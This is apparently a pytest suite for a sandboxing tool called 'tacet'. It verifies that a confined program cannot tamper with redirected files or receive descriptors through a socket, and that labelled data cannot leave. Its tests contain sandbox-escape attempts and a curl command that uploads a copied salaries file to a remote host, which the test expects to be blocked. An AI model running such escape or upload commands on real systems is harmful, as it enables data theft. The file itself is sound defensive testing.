# SPDX-License-Identifier: GPL-3.0-or-later
"""Redirected standard files of a private program: what it writes arrives, and nothing else can be done with a file of the outside."""

import pytest

from thorough import daily

NEWEST_KERNEL_ONLY = True
RUN = "tacet run --display none --"
FACTS = "stat -c '%a %s %Y %Z %h' file && getfattr -d -m - file && cat file"

# What a private program does with its standard files, in Python. Each way ends in "refused" or in "done", on standard error.
ATTEMPT = """
import os, socket, sys
def attempt(name, action):
    try:
        action()
        print(name, "done", file=sys.stderr)
    except (OSError, AttributeError) as error:
        print(name, "refused", type(error).__name__, file=sys.stderr)
"""
# way: (how anna redirects, what the program tries)
WAYS = {
    "write-to-input": ("< file", "os.write(os.open('/proc/self/fd/0', os.O_WRONLY | os.O_NONBLOCK), b'written'); os.ftruncate(0, 0)"),
    "mode-of-input": ("< file", "os.fchmod(0, 0o777)"),
    "mode-by-path": ("< file", "os.chmod('/proc/self/fd/0', 0o777)"),
    "attribute-of-input": ("< file", "os.setxattr('/proc/self/fd/0', 'user.note', b'written')"),
    "times-of-input": ("< file", "os.utime(0, (1, 1))"),
    "truncate-log": (">> file", "os.ftruncate(1, 0)"),
    "seek-in-log": (">> file", "os.lseek(1, 0, os.SEEK_SET)"),
    "read-log": (">> file", "assert os.read(os.open('/proc/self/fd/1', os.O_RDONLY | os.O_NONBLOCK), 9)"),
    "file-in-folder": ("< .", "os.open('made', os.O_CREAT | os.O_WRONLY, dir_fd=0)"),
    "above-folder": ("< .", "os.open('../made', os.O_CREAT | os.O_WRONLY, dir_fd=0)"),
}


def start(scene, redirection, code):
    """Runs a private Python program with the redirection; returns how it ended."""
    scene.guest.write(f"{scene.folder}/attempt.py", ATTEMPT + code, user="anna")
    return scene.run(f"{RUN} python3 attempt.py {redirection}")


@pytest.mark.parametrize("way", daily(WAYS, "write-to-input"))
def test_nothing_else_can_be_done(scene, way):
    """The file outside is afterwards as before, whatever its mode of opening allows."""
    redirection, action = WAYS[way]
    scene.run("echo before > file; setfattr -n user.note -v before file; mkdir -p sub")
    before = scene.run(FACTS).stdout
    done = start(scene, redirection, f"def action():\n    {action}\nattempt({way!r}, action)")
    assert f"{way} refused" in done.stderr, done.stdout + done.stderr
    assert scene.run(FACTS).stdout == before
    assert scene.run("ls made ../made").stdout == ""


@pytest.mark.nightly
def test_socket_takes_nothing_in(scene):
    """Standard input that is a socket gives its bytes, and no descriptor."""
    outside = f"""
import array, os, socket, subprocess
near, far = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
near.sendmsg([b"hello"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [os.open("/etc/hostname", os.O_RDONLY)]))])
near.shutdown(socket.SHUT_WR)
done = subprocess.run({RUN.split()!r} + ["python3", "attempt.py"], stdin=far, capture_output=True, text=True)
print(done.stdout, done.stderr)
"""
    scene.guest.write(f"{scene.folder}/outside.py", outside, user="anna")
    scene.guest.write(f"{scene.folder}/attempt.py", ATTEMPT + "attempt('socket', lambda: socket.socket(fileno=0).recvmsg(9, 99))\n"
                      "print(os.read(0, 9))", user="anna")
    done = scene.run("python3 outside.py")
    assert "socket refused" in done.stdout and "b'hello'" in done.stdout, done.stdout + done.stderr


def test_bytes_arrive(scene):
    """20 MB in and out, and the program's status; output and errors to one file keep their order."""
    scene.run("head -c 20000000 /dev/urandom > big")
    assert scene.run(f"{RUN} sh -c 'cat; exit 7' < big > copy; test $? = 7 && cmp big copy", timeout=120).returncode == 0
    scene.run(f"{RUN} sh -c 'for i in $(seq 50); do echo o$i; echo e$i >&2; done' > both 2>&1")
    assert scene.run("cat both").stdout.split() == [f"{letter}{i}" for i in range(1, 51) for letter in "oe"]
    scene.run(f"echo first > log; {RUN} sh -c 'echo second; echo third > /dev/stderr' >> log 2> errors")
    assert scene.run("cat log errors").stdout.split() == ["first", "second", "third"]


@pytest.mark.nightly
def test_pipeline_ends_as_others_do(scene):
    """Who reads no more ends the writer, who does not read is not waited for, and the input ends."""
    assert scene.run(f"{RUN} yes | head -n 1", timeout=30).stdout == "y\n"
    assert scene.run(f"sleep 1000 | {{ {RUN} true; echo ended $?; pkill -f 'sleep [1]000'; }}", timeout=30).stdout == "ended 0\n"
    assert scene.run(f"printf 'a\\nb\\n' | {RUN} wc -l", timeout=30).stdout.strip() == "2"
    assert scene.run(f"{RUN} sh -c 'seq 100000' | {{ sleep 2; tail -n 1; }}", timeout=30).stdout == "100000\n"


@pytest.mark.nightly
def test_labels_go_with_the_bytes(scene):
    """What a private program writes to a file outside carries its label there."""
    scene.label()
    scene.run(f"{RUN} cat salaries.csv > copy")
    assert scene.tacet.categories(f"{scene.folder}/copy") == ["finance"]
    _, done = scene.send_and_answer("curl -sS -m 90 -T copy http://remote/", "block")
    assert done.returncode != 0
    scene.assert_nothing_leaked()
